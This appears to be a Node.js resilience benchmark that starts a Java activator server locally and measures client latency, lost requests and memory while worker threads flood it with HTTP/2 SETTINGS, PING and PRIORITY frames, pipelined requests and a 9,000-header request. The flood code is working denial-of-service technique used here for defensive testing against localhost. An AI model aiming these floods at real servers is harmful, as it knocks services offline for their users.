// Callers of a warm revision, beside callers that send cheap frames or heads of 9,000 fields.
// Node 20, no packages. See bench/drills/floods.
import { Worker, isMainThread, workerData } from 'node:worker_threads';
import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';

const HOST = 'hello.default.localhost';

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const repeated = (piece, count) => Buffer.concat(Array(count).fill(piece));
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]);
const MANY_FIELDS = Buffer.from(`GET / HTTP/1.1\r\nHost: ${HOST}\r\n`
  + Array.from({ length: 9000 }, (_, i) => `x${i}: y\r\n`).join('') + '\r\n');

// name: connections, what each begins with, what it sends for as long as it is taken
const ATTACKS = {
  SETTINGS: [4, PREFACE, repeated(frame(4, 0, 0, Buffer.alloc(0)), 7000)],
  PING: [4, PREFACE, repeated(frame(6, 0, 0, Buffer.alloc(8)), 3800)],
  PRIORITY: [4, PREFACE, repeated(frame(2, 0, 1, Buffer.from([0, 0, 0, 0, 1])), 4600)],
  'pipelined 404s': [4, Buffer.alloc(0), repeated(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'), 2400)],
  '9,000 fields': [200, Buffer.alloc(0), MANY_FIELDS],
};

function attack(port, [connections, opening, piece]) {
  const open = () => {
    const socket = net.connect(port, '127.0.0.1');
    const send = () => { while (!socket.destroyed && socket.write(piece)); };
    socket.on('connect', () => { socket.write(opening); send(); });
    socket.on('drain', send);
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => setTimeout(open, 10));
  };
  for (let i = 0; i < connections; i++) open();
}

async function victims(port, seconds) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 50 });
  const millis = [];
  let lost = 0;
  const running = [];
  const end = performance.now() + seconds * 1000;
  for (let due = performance.now(); due < end; due += 5) {
    await new Promise((done) => setTimeout(done, Math.max(0, due - performance.now())));
    const begun = due; // When it should have been sent: a stall counts for all that it delays.
    running.push(new Promise((done) => {
      const request = http.get({ host: '127.0.0.1', port, agent, headers: { Host: HOST }, timeout: 5000 }, (response) => {
        if (response.statusCode !== 200) lost++;
        response.resume().on('end', () => { millis.push(performance.now() - begun); done(); });
      });
      request.on('timeout', () => request.destroy());
      request.on('error', () => { lost++; done(); });
    }));
  }
  await Promise.all(running);
  agent.destroy();
  millis.sort((a, b) => a - b);
  const at = (part) => millis.length ? millis[Math.floor((millis.length - 1) * part)].toFixed(1) : '-';
  return { p50: at(0.5), p99: at(0.99), lost, all: running.length };
}

function memory(pid) {
  return (Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024).toFixed(0);
}

async function main(jar, seconds) {
  const flags = ['-Xmx300m', '-jar', jar, '--activator.port.http1=0', '--activator.port.h2c=0',
    '--activator.port.https=0', '--activator.embedded.api-port=0', '--activator.embedded.autoscaler-port=0', '--server.port=0'];
  const env = { ...process.env, ACTIVATOR_MODE: 'embedded' };
  const java = spawn(process.env.JAVA_HOME ? `${process.env.JAVA_HOME}/bin/java` : "java", flags, { env, stdio: ['ignore', 'pipe', 'inherit'] });
  process.on('exit', () => java.kill());
  const port = await new Promise((done) => {
    let text = '';
    java.stdout.on('data', (more) => {
      text += more;
      const found = /Listening for requests on [^\s:]+:(\d+)/.exec(text);
      if (found) done(Number(found[1]));
    });
    java.on('exit', () => { console.error(text); process.exit(1); });
  });
  await new Promise((done) => setTimeout(done, 5000));
  await victims(port, 10); // not counted: wakes the revision, and warms the code up
  const row = async (name) => {
    const { p50, p99, lost, all } = await victims(port, seconds);
    console.log(`| ${jar}: ${name} | ${p50} | ${p99} | ${lost} of ${all} | ${memory(java.pid)} |`);
  };
  await row('quiet');
  for (const name of Object.keys(ATTACKS)) {
    const worker = new Worker(new URL(import.meta.url), { workerData: { port, name } });
    await new Promise((done) => setTimeout(done, 500));
    await row(name);
    await worker.terminate();
    await new Promise((done) => setTimeout(done, 2000));
  }
  java.removeAllListeners('exit');
  java.kill();
  process.exit(0);
}

if (isMainThread) {
  const seconds = Number(process.argv[2]);
  await main(process.argv[3], seconds);
} else {
  attack(workerData.port, ATTACKS[workerData.name]);
}
